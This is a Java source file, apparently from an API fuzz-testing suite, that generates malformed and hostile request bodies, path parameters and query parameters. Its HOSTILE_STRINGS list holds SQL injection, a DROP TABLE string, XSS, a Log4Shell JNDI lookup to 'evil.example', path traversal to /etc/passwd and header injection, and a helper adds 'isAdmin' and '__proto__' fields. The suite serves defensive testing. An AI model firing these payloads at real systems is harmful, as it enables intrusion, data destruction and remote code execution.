package org.acde.e2e.fuzz;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/** Every way this suite bends a request of an operation: bodies, path and query parameters. */
final class Mutations {

    static final List<String> HOSTILE_STRINGS = List.of("' OR '1'='1' --", "'; DROP TABLE initiative; --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "\u0000nul",
            "\u202Eright-to-left", "😀🇻🇳🇨🇳", "\uD800", "%00%0d%0aX-Injected: 1", "{{7*7}}", "\\u0000", " ", "");
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private Mutations() {
    }

    static List<Mutation> of(Contract contract, Contract.Operation operation, Payloads payloads) {
        List<Mutation> mutations = new ArrayList<>();
        if (operation.body() != null) {
            JsonNode valid = payloads.valid(operation.body());
            mutations.addAll(wholeBody(valid));
            if (valid instanceof ObjectNode object) {
                JsonNode schema = Contract.resolve(contract.document(), operation.body());
                mutations.addAll(fields(object, schema, contract.document(), ""));
            }
        }
        for (Contract.Parameter parameter : operation.parameters()) {
            if (parameter.in().equals("path")) {
                for (String value : List.of("00000000-0000-0000-0000-000000000000", "not-an-id", "' OR 1=1 --", "%2e%2e%2f",
                        "x".repeat(300), "\u00e9\u4e2d")) {
                    mutations.add(Mutation.path(parameter.name() + " = " + abbreviate(value), value));
                }
            } else if (parameter.in().equals("query")) {
                for (String value : badValues(parameter.schema(), contract.document())) {
                    mutations.add(Mutation.query(parameter.name() + " = " + abbreviate(value), parameter.name(), value));
                }
            }
        }
        return mutations;
    }

    private static List<Mutation> wholeBody(JsonNode valid) {
        String json = valid.toString();
        List<Mutation> mutations = new ArrayList<>();
        mutations.add(Mutation.body("truncated JSON", json.substring(0, Math.max(1, json.length() / 2))));
        mutations.add(Mutation.body("trailing comma", json.replaceFirst("}$", ",}")));
        mutations.add(Mutation.body("single quotes", json.replace('"', '\'')));
        mutations.add(Mutation.body("NaN", "{\"value\": NaN}"));
        mutations.add(Mutation.body("empty body", ""));
        mutations.add(Mutation.body("null body", "null"));
        mutations.add(Mutation.body("array instead of object", "[" + json + "]"));
        mutations.add(Mutation.body("deep nesting", "[".repeat(300) + "]".repeat(300)));
        mutations.add(Mutation.body("deep object nesting", "{\"a\":".repeat(300) + "1" + "}".repeat(300)));
        mutations.add(Mutation.body("duplicate keys", json.replaceFirst("\\{", "{\"a\":1,\"a\":2,")));
        mutations.add(Mutation.body("trailing garbage", json + " <html>"));
        mutations.add(Mutation.body("text/plain", "text/plain", json));
        mutations.add(Mutation.body("application/xml", "application/xml", "<a>1</a>"));
        mutations.add(Mutation.body("form encoded", "application/x-www-form-urlencoded", "a=1&b=2"));
        mutations.add(Mutation.body("huge body", "{\"pad\":\"" + "x".repeat(300 * 1024) + "\"}"));
        mutations.add(Mutation.body("unknown top-level field", ((ObjectNode) withUnknown(valid)).toString()));
        return mutations;
    }

    private static JsonNode withUnknown(JsonNode valid) {
        ObjectNode copy = valid instanceof ObjectNode object ? object.deepCopy() : NODES.objectNode();
        copy.put("isAdmin", true);
        copy.put("__proto__", "polluted");
        return copy;
    }

    /** Each field bent in turn: missing, wrong type, out of range, over-long, empty, unknown enum, bad date, hostile text. */
    private static List<Mutation> fields(ObjectNode valid, JsonNode schema, JsonNode document, String prefix) {
        List<Mutation> mutations = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext();) {
            Map.Entry<String, JsonNode> property = properties.next();
            String name = property.getKey();
            JsonNode fieldSchema = Contract.resolve(document, property.getValue());
            String type = Payloads.type(fieldSchema);
            String label = prefix + name;
            mutations.add(Mutation.body(label + " missing", without(valid, name).toString()));
            mutations.add(Mutation.body(label + " null", with(valid, name, NODES.nullNode()).toString()));
            for (JsonNode wrong : wrongTypes(type)) {
                mutations.add(Mutation.body(label + " as " + wrong.getNodeType(), with(valid, name, wrong).toString()));
            }
            switch (type) {
                case "string" -> {
                    mutations.add(Mutation.body(label + " over-long", with(valid, name, NODES.textNode("x".repeat(100_001))).toString()));
                    mutations.add(Mutation.body(label + " unknown code", with(valid, name, NODES.textNode("NOT_A_CODE")).toString()));
                    mutations.add(Mutation.body(label + " impossible date", with(valid, name, NODES.textNode("2026-02-30")).toString()));
                    for (String hostile : HOSTILE_STRINGS) {
                        mutations.add(Mutation.body(label + " = " + abbreviate(hostile), with(valid, name, NODES.textNode(hostile)).toString()));
                    }
                }
                case "integer", "number" -> {
                    for (String number : List.of("-1", "0", "1e309", "99999999999999999999999", "-9223372036854775809", "0.000001")) {
                        mutations.add(Mutation.body(label + " = " + number, valid.toString()
                                .replace("\"" + name + "\":" + valid.get(name), "\"" + name + "\":" + number)));
                    }
                }
                case "array" -> {
                    mutations.add(Mutation.body(label + " with 500 items", with(valid, name, repeated(valid.get(name), 500)).toString()));
                    mutations.add(Mutation.body(label + " with a null item", with(valid, name, NODES.arrayNode().add(NODES.nullNode())).toString()));
                }
                case "object" -> {
                    if (valid.get(name) instanceof ObjectNode nested && prefix.isEmpty()) {
                        for (Mutation inner : fields(nested, fieldSchema, document, name + ".")) {
                            try {
                                mutations.add(Mutation.body(inner.what(),
                                        with(valid, name, Payloads.JSON.readTree(inner.body())).toString()));
                            } catch (Exception e) {
                                throw new IllegalStateException(e);
                            }
                        }
                    }
                }
                default -> {
                }
            }
        }
        return mutations;
    }

    private static List<String> badValues(JsonNode schema, JsonNode document) {
        JsonNode s = Contract.resolve(document, schema);
        List<String> values = new ArrayList<>(List.of("NOT_A_CODE", "' OR 1=1 --", "<script>", "", "x".repeat(2000)));
        switch (Payloads.type(s)) {
            case "integer", "number" -> values.addAll(List.of("-1", "0", "101", "1e309", "abc", "1.5", "99999999999999999999"));
            case "boolean" -> values.add("maybe");
            default -> values.addAll(List.of("2026-02-30", "2026-13-01T25:00:00Z", "\u0000"));
        }
        return values;
    }

    private static List<JsonNode> wrongTypes(String type) {
        return switch (type) {
            case "string" -> List.of(NODES.numberNode(42), NODES.booleanNode(true), NODES.arrayNode(), NODES.objectNode());
            case "integer", "number" -> List.of(NODES.textNode("12"), NODES.booleanNode(false), NODES.numberNode(1.5));
            case "boolean" -> List.of(NODES.textNode("true"), NODES.numberNode(1));
            case "array" -> List.of(NODES.textNode("a"), NODES.objectNode());
            default -> List.of(NODES.textNode("x"), NODES.arrayNode());
        };
    }

    private static JsonNode repeated(JsonNode array, int times) {
        var out = NODES.arrayNode();
        JsonNode item = array != null && array.size() > 0 ? array.get(0) : NODES.textNode("x");
        for (int i = 0; i < times; i++) {
            out.add(item);
        }
        return out;
    }

    private static ObjectNode with(ObjectNode valid, String name, JsonNode value) {
        ObjectNode copy = valid.deepCopy();
        copy.set(name, value);
        return copy;
    }

    private static ObjectNode without(ObjectNode valid, String name) {
        ObjectNode copy = valid.deepCopy();
        copy.remove(name);
        return copy;
    }

    static String abbreviate(String value) {
        String printable = value.replaceAll("\\p{C}", "?");
        return printable.length() > 30 ? printable.substring(0, 30) + "…" : printable;
    }
}
